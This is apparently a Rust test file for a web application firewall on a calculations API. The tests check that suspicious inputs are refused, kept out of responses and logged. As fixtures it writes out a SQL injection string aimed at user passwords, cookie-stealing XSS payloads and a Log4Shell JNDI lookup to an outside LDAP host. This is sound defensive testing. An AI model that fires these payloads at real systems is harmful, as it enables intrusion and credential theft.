//! Texts that read as attacks: where they are refused, what the answer says, and what the log.

use serde_json::{Value as Json, json};

use crate::server::{Server, json_of};

const CALCULATIONS: &str = "/api/v1/calculations";
const ATTACK: &str = "1' union select name, password from users -- ";

fn asking(note: &str) -> String {
    json!({ "inputs": { "note": note } }).to_string()
}

fn log_of(server: &Server) -> Vec<Json> {
    let lines = server.platform.log.borrow();
    lines.iter().map(|line| serde_json::from_str(line).unwrap()).filter(|line: &Json| line["guard"] == "waf").collect()
}

#[test]
fn an_attack_in_a_text_is_refused_by_its_field_and_never_repeated() {
    let server = Server::new();
    let response = server.post(CALCULATIONS, &asking(ATTACK));
    let body = json_of(&response);
    assert_eq!((response.status, response.header("content-type")), (422, Some("application/problem+json")));
    assert_eq!(body["type"], "urn:paintbox:problem:suspicious-text");
    assert_eq!(body["errors"][0]["pointer"], "/inputs/note");
    let text = String::from_utf8(response.body).unwrap();
    assert!(!text.contains("union") && !text.contains("password") && !text.contains("sqli"), "{text}");
    assert_eq!(server.calculated(), 0);
    let log = log_of(&server);
    assert_eq!(log.len(), 1);
    assert_eq!(
        (&log[0]["does"], &log[0]["field"], &log[0]["class"]),
        (&json!("refuse"), &json!("/inputs/note"), &json!("sqli"))
    );
    assert!(log[0]["rule"].as_str().is_some_and(|rule| rule.starts_with("sqli-")), "{}", log[0]);
    assert_eq!(log[0]["request"], id_of(&body));
    assert!(!log[0].to_string().contains("password"));
}

/// The request's name out of a problem.
fn id_of(body: &Json) -> Json {
    json!(body["instance"].as_str().unwrap().rsplit(':').next().unwrap())
}

#[test]
fn a_note_of_people_passes() {
    let server = Server::new();
    for note in crate::sample::TEXTS {
        let response = server.post(CALCULATIONS, &asking(note));
        assert_eq!(response.status, 200, "{note}: {}", String::from_utf8_lossy(&response.body));
    }
    assert_eq!(log_of(&server), Vec::<Json>::new());
}

#[test]
fn texts_of_cells_of_the_query_and_of_a_context_are_read_too() {
    let server = Server::new();
    let cells = json!({ "cells": { "Job!A2": ATTACK }, "outputs": ["Job!B2"] }).to_string();
    let refused = server.post(CALCULATIONS, &cells);
    assert_eq!((refused.status, &json_of(&refused)["errors"][0]["pointer"]), (422, &json!("/cells/Job!A2")));
    let query = ATTACK.replace(' ', "+").replace('\'', "%27");
    let refused = server.read(&format!("{CALCULATIONS}?note={query}"));
    assert_eq!((refused.status, &json_of(&refused)["errors"][0]["pointer"]), (422, &json!("/inputs/note")));
    let execute = json!({ "formula": "A1", "context": { "A1": ATTACK } }).to_string();
    let refused = server.post("/api/v1/calculations/execute", &execute);
    assert_eq!((refused.status, &json_of(&refused)["errors"][0]["pointer"]), (422, &json!("/context/A1")));
    // A formula is a program by intention.
    let execute = json!({ "formula": "HYPERLINK(\"https://example.com\",\"colours\")" }).to_string();
    assert_eq!(server.post("/api/v1/calculations/execute", &execute).status, 200);
}

#[test]
fn in_log_only_mode_the_request_is_answered() {
    let mut server = Server::new();
    server.platform.settings.insert("WAF_MODE".to_owned(), "log".to_owned());
    let response = server.post(CALCULATIONS, &asking(ATTACK));
    assert_eq!((response.status, &json_of(&response)["outputs"]["echo"]["value"]), (200, &json!(ATTACK)));
    assert_eq!(log_of(&server)[0]["does"], "log");
    server.platform.settings.insert("WAF_MODE".to_owned(), "off".to_owned());
    assert_eq!(server.post(CALCULATIONS, &asking(ATTACK)).status, 422, "what is no mode refuses");
}

#[test]
fn an_exception_holds_for_its_field_alone() {
    let mut server = Server::new();
    server.platform.settings.insert("WAF_EXCEPTIONS".to_owned(), "/inputs/note=sqli".to_owned());
    assert_eq!(server.post(CALCULATIONS, &asking(ATTACK)).status, 200);
    assert_eq!(log_of(&server)[0]["does"], "except");
    assert_eq!(server.post(CALCULATIONS, &asking("<script>alert(document.cookie)</script>")).status, 422);
    let cells = json!({ "cells": { "Job!A2": ATTACK }, "outputs": ["Job!B2"] }).to_string();
    assert_eq!(server.post(CALCULATIONS, &cells).status, 422);
}

#[test]
fn a_default_and_a_plain_header_are_not_read_as_attacks() {
    let server = Server::new();
    let json = ("Content-Type", "application/json");
    assert_eq!(server.post(CALCULATIONS, &asking("<none>")).status, 200, "the workbook's own default");
    for tag in ["*", "\"a\", W/\"b\"", "\"0123456789abcdef0123456789abcdef\""] {
        let status = server.send("POST", CALCULATIONS, &[json, ("If-None-Match", tag)], b"{}").status;
        assert!([200, 304, 412].contains(&status), "{tag}: {status}");
    }
    let refused = server.send("GET", "/api/health", &[("If-None-Match", "\"<script>alert(1)</script>\"")], b"");
    assert_eq!((refused.status, &json_of(&refused)["type"]), (403, &json!("urn:paintbox:problem:suspicious-header")));
    assert_eq!(log_of(&server)[0]["field"], "if-none-match");
    // A header that nobody reads may say what it likes.
    let user_agent = [("User-Agent", "${jndi:ldap://x.example/a}"), ("Referer", ATTACK)];
    assert_eq!(server.send("GET", "/api/health", &user_agent, b"").status, 200);
}
